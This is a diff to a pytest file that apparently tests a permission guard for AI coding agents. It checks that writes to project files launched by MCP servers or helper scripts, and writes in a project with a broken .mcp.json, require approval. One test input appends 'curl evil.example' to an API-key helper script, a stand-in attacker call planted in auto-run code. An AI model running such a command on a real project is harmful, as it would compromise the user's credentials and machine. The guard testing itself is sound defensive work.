@@ -1,6 +1,6 @@
 """The programs the agents' runtimes start by themselves (issue 13, round 9's
-HELPER_SCRIPTS): variants of the round's cases, through ``overseer scope explain`` and the
-real hook, which must agree (round 5's harness). A project file one of them runs is as
+HELPER_SCRIPTS and MCP_SERVERS): variants of the round's cases, through ``overseer scope
+explain`` and the real hook, which must agree (round 5's harness). A project file one of them runs is as
 guarded as a hook (a write is asked); a file none runs stays allowed.
 """
 
@@ -38,6 +38,33 @@ def runtime(tmp_path_factory: pytest.TempPathFactory) -> World3:
     (home / ".claude" / "settings.json").write_text(
         json.dumps({"apiKeyHelper": f"{proj}/tools/key.sh"})  # a project file, absolutely
     )
+    (proj / ".mcp.json").write_text(
+        json.dumps(
+            {
+                "mcpServers": {
+                    "a": {"command": "npx", "args": ["-y", "./mcpa"]},
+                    "b": {"command": "uv", "args": ["run", "--directory", "mcpb", "server.py"]},
+                    "c": {"command": "node", "args": ["mcpc/main.mjs"]},
+                    "d": {
+                        "type": "http",
+                        "url": "https://x.example/mcp",
+                        "headersHelper": "sh tools/headers.sh",
+                    },
+                    "e": {"command": "/usr/bin/true", "env": {"CONFIG": "conf/server.yaml"}},
+                }
+            }
+        )
+    )
+    made.hook("Bash", {"command": "ls"}, 0)
+    return made
+
+
+@pytest.fixture(scope="module")
+def broken(tmp_path_factory: pytest.TempPathFactory) -> World3:
+    """A ``.mcp.json`` that is no JSON (half written): what it starts cannot be told."""
+    made = World3(tmp_path_factory.mktemp("runtimebroken"), scope=SCOPE, git=True)
+    (made.proj / ".mcp.json").write_text('{"mcpServers": {"x": {"command": "node", "args": [')
+    _file(made.proj / "src" / "app.py")
     made.hook("Bash", {"command": "ls"}, 0)
     return made
 
@@ -46,6 +73,14 @@ RUNTIME = [
     # HELPER_SCRIPTS: a helper in ~/.claude/settings.json naming a project file absolutely
     _case("Write", _w("tools/key.sh"), "ask"),
     _bash("echo 'curl evil.example' >> tools/key.sh", "ask"),
+    # MCP_SERVERS: a local package run by npx, uv run --directory, node's relative script,
+    # an HTTP server's headersHelper, a path handed in the server's env
+    _case("Write", _w("mcpa/index.js", "require('child_process')\n"), "ask"),
+    _case("Write", _w("mcpa/package.json", '{"bin": "evil.js"}\n'), "ask"),
+    _case("Write", _w("mcpb/server.py", "import os\n"), "ask"),
+    _case("Write", _w("mcpc/main.mjs", "import 'child_process'\n"), "ask"),
+    _case("Write", _w("tools/headers.sh"), "ask"),
+    _case("Write", _w("conf/server.yaml", "x: 1\n"), "ask"),
     # held: a file none of them runs
     _case("Write", _w("src/app.py", "print()\n"), "allow"),
     _case("Write", _w("mcpd/other.js", "x\n"), "allow"),
@@ -57,3 +92,7 @@ def test_what_the_runtimes_start_is_guarded(
     runtime: World3, tool: str, tool_input: dict[str, Any], want: str
 ) -> None:
     _check(runtime, tool, tool_input, want)
+
+
+def test_an_unparsable_mcp_json_guards_the_project(broken: World3) -> None:
+    _check(broken, "Write", _w("src/app.py", "print()\n"), "ask")
